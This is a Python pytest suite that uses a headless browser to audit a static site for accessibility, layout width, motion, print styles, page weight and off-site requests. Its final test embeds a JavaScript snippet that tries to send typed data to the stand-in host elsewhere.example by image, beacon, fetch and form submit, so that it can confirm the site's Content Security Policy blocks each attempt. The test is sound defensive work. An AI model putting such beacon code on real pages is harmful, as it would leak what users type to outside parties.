"""What holds for every page, the kitchen's too: each is opened once, and looked at from all sides."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from dataclasses import dataclass, field
from itertools import zip_longest
from pathlib import Path
from typing import Any

import pytest

Opened = Callable[..., Any]
Watching = Callable[[Any], AbstractContextManager[Opened]]
Violations = Callable[..., list[str]]
Judging = Callable[..., Callable[[], list[str]]]

WIDTHS = (320, 768, 1024, 1600)
OF_COLOURS = ("color-contrast", "link-in-text-block")
"""The rules whose verdict depends on the colours; all others see the same page in light and in dark."""

DRAWN = """() => {
const ofText = (node) => node.nodeType === Node.TEXT_NODE && node.data.trim();
return [...new Set([...document.querySelectorAll("body *")]
  .filter((element) => [...element.childNodes].some(ofText))
  .map((element) => {
    const names = [];
    for (let each = element; each; each = each.parentElement) {
      names.push([each.tagName, ...[...each.classList].sort(), ...each.getAttributeNames().sort()].join(" "));
    }
    return names.join(" < ");
  }))];
}"""
"""What decides the colours of the texts of a page: their elements, and those around them, by their names,
classes, and attributes. Where all of it is on pages whose colours were judged, they need not be judged again;
that takes four fifths of axe's time."""

TOO_WIDE = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
MOVING = """
[...document.querySelectorAll("*")].filter((element) => {
  const style = getComputedStyle(element);
  const times = `${style.transitionDuration},${style.animationDuration}`.split(",").map(parseFloat);
  return times.some((seconds) => seconds > 0.01) || style.scrollBehavior === "smooth";
}).map((element) => element.outerHTML.slice(0, 200))
"""
HIDDEN = """
[...document.querySelectorAll("article *")].filter((element) =>
  [...element.childNodes].some((node) => node.nodeType === Node.TEXT_NODE && node.data.trim())
  && !element.checkVisibility({ checkOpacity: true, checkVisibilityCSS: true })
  && !element.closest("[hidden], [role=status], details, button, option, script, style, svg")
  && !element.closest(".headerlink, .explain-bar")
).map((element) => element.outerHTML.slice(0, 200))
"""
"""Texts of an article that do not show and are not for now. (A drawing has its list; an answer unfolds.)"""

FURNITURE = """
[...document.querySelectorAll(
  "header, footer, .pages, .contents, .neighbours, .steps, .copy, .skip, .explain-bar, .explain-all")]
  .filter((element) => element.checkVisibility()).map((element) => element.outerHTML.slice(0, 200))
"""


@dataclass
class Seen:
    """What was seen on one page; each list is of what should not be."""

    name: str
    coloured: bool = False
    light: list[str] = field(default_factory=list)
    dark: list[str] = field(default_factory=list)
    moving: list[str] = field(default_factory=list)
    too_wide: list[int] = field(default_factory=list)
    hidden_on_paper: list[str] = field(default_factory=list)
    furniture_on_paper: list[str] = field(default_factory=list)


@dataclass(frozen=True)
class Walk:
    """Every page that was opened, and what went on meanwhile (as in `Watched`)."""

    pages: list[Seen]
    watched: Any

    def all(self, what: str) -> dict[str, list[Any]]:
        """Tell the pages where something is as it should not be."""
        return {seen.name: found for seen in self.pages if (found := getattr(seen, what))}


FRONT_PAGE = 300_000
"""Bytes of all that the front page loads. (Material's was 284 kB without the lessons' own.)"""


def files(folder: Path) -> list[Path]:
    found = sorted(folder.rglob("*.html"))
    assert len(found) > 10
    return found


def kinds(folder: Path) -> list[Path]:
    """Every page, but only a few of the errors': one template makes them, of text alone."""
    errors = files(folder / "errors")
    return sorted({*files(folder)} - {*errors}) + errors[:5]


@pytest.fixture(scope="module")
def walk(
    built: Path,
    kitchen: Path,
    watching: Watching,
    axe: str,
    judging: Judging,
    new_watched: Callable[[], Any],
) -> Walk:
    """Open every page as a file, in two tabs, so that axe has two cores."""
    walk, drawn = Walk([], new_watched()), set()
    todo = [*files(built), *files(kitchen)[:3]]
    with watching(walk.watched) as opened:
        tabs = [opened("about:blank", script=axe, reduced_motion="reduce") for _ in range(2)]
        for pair in (todo[at : at + 2] for at in range(0, len(todo), 2)):
            looks = [
                look(tab, file, judging, walk.pages, drawn)
                for tab, file in zip(tabs, pair, strict=False)
            ]
            for _ in zip_longest(*looks):
                pass  # each has come as far as it could without axe
    assert len(walk.pages) == len(todo)
    return walk


def look(
    page: Any, file: Path, judging: Judging, pages: list[Seen], drawn: set[str]
) -> Iterator[None]:
    """Look at a page from all sides; while axe judges it, the other tab has its turn.

    `drawn` is what was drawn on pages whose colours were judged: see `DRAWN`.
    """
    page.emulate_media(media="screen", color_scheme="light")
    page.goto(file.as_uri())
    new = set(page.evaluate(DRAWN)) - drawn
    drawn |= new
    light = judging(page, without=() if new else OF_COLOURS)
    yield
    seen = Seen(file.name, light=light(), moving=page.evaluate(MOVING), coloured=bool(new))
    seen.too_wide = [width for width in WIDTHS if _at(page, width).evaluate(TOO_WIDE) > 0]
    page.emulate_media(media="print")
    seen.hidden_on_paper, seen.furniture_on_paper = page.evaluate(HIDDEN), page.evaluate(FURNITURE)
    if new:
        page.emulate_media(media="screen", color_scheme="dark")
        dark = judging(_at(page, 1280), *OF_COLOURS)
        yield
        seen.dark = dark()
    _at(page, 1280)
    pages.append(seen)


def _at(page: Any, width: int) -> Any:
    page.set_viewport_size({"width": width, "height": 800})
    return page


def test_axe_finds_nothing_in_light_colours(walk: Walk) -> None:
    assert walk.all("light") == {}


def test_axe_finds_nothing_in_dark_colours(walk: Walk) -> None:
    assert walk.all("dark") == {}


def test_colours_are_judged_wherever_they_can_differ(walk: Walk) -> None:
    """On the first pages, and later on those that draw something else; not on none, and not on all."""
    judged = [seen.coloured for seen in walk.pages]
    assert judged[0]
    assert 20 < sum(judged) < len(judged) / 2


def test_no_page_is_wider_than_its_screen(walk: Walk) -> None:
    assert walk.all("too_wide") == {}


def test_nothing_moves_for_who_wants_no_motion(walk: Walk) -> None:
    assert walk.all("moving") == {}


def test_on_paper_every_explanation_is_open(walk: Walk) -> None:
    assert walk.all("hidden_on_paper") == {}


def test_on_paper_there_is_no_furniture(walk: Walk) -> None:
    assert walk.all("furniture_on_paper") == {}


def test_no_page_asks_for_anything_off_the_site_and_no_script_fails(walk: Walk) -> None:
    assert walk.watched.asked == []
    assert walk.watched.failed == []


def test_the_rules_are_all_there(opened: Opened, violations: Violations) -> None:
    """A page with faults, so that the tests above are known to see them."""
    page = opened("about:blank")
    page.set_content(
        "<article><p style='color: #999; transition: color 1s'>pale</p>"
        "<p style='display: none'>hidden</p>"
        "<div style='width: 2000px'>wide</div></article><header>Top</header>"
    )
    found = " ".join(violations(page))
    assert "color-contrast" in found
    assert "html-has-lang" in found
    assert "color-contrast" in " ".join(violations(page, *OF_COLOURS))
    assert page.evaluate(TOO_WIDE) > 0
    assert [len(page.evaluate(look)) for look in (MOVING, HIDDEN, FURNITURE)] == [1, 1, 1]


def test_without_a_script_every_text_shows(built: Path, opened: Opened) -> None:
    page = opened("about:blank", java_script_enabled=False)
    hidden = {}
    for file in kinds(built):
        page.goto(file.as_uri())
        if found := page.evaluate(HIDDEN) + _at(page, 390).evaluate(HIDDEN):
            hidden[file.name] = found
        _at(page, 1280)
    assert hidden == {}


def test_on_a_server_nothing_is_asked_of_anybody_else(
    built: Path, served: str, opened: Opened
) -> None:
    page, answers = opened("about:blank"), []
    page.on("response", lambda answer: answers.append(answer))
    for file in kinds(built):
        page.goto(f"{served}{file.relative_to(built).as_posix()}")
    assert len(answers) > len(kinds(built)) > 20
    assert [answer.url for answer in answers if not answer.url.startswith(served)] == []


def test_the_front_page_is_small(served: str, opened: Opened) -> None:
    page, answers = opened("about:blank"), []
    page.on("response", lambda answer: answers.append(answer))
    page.goto(served, wait_until="networkidle")
    assert len(answers) >= 7
    assert sum(len(answer.body()) for answer in answers) < FRONT_PAGE


def test_a_page_that_asks_for_something_elsewhere_is_noticed(opened: Opened, watched: Any) -> None:
    page = opened("about:blank")
    page.set_content("<img src='http://elsewhere.example/a.png'><script>nowhere()</script>")
    page.wait_for_load_state()
    assert watched.asked == ["http://elsewhere.example/a.png"]
    assert "nowhere is not defined" in watched.failed
    watched.asked.clear()
    watched.failed.clear()


BEACONS = """
async () => {
  const image = new Image();
  image.src = "http://elsewhere.example/?typed";
  await new Promise((done) => { image.onerror = image.onload = done; });
  navigator.sendBeacon("http://elsewhere.example/", "typed");
  await fetch("http://elsewhere.example/", { method: "POST", body: "typed" }).catch(() => {});
  const form = Object.assign(document.createElement("form"), { action: "http://elsewhere.example/" });
  document.body.append(form);
  form.submit();
}
"""
"""What a script would do that wanted to carry off what one types."""


@pytest.mark.parametrize("where", ["a folder", "a server"])
def test_the_browser_lets_nothing_leave_a_page(
    built: Path, served: str, opened: Opened, watched: Any, where: str
) -> None:
    page = opened(f"{served if where == 'a server' else built.as_uri() + '/'}index.html")
    page.evaluate(BEACONS)
    page.wait_for_timeout(200)
    assert watched.asked == []
    assert len(watched.failed) >= 4
    assert [said for said in watched.failed if "Content Security Policy" not in said] == []
    watched.failed.clear()
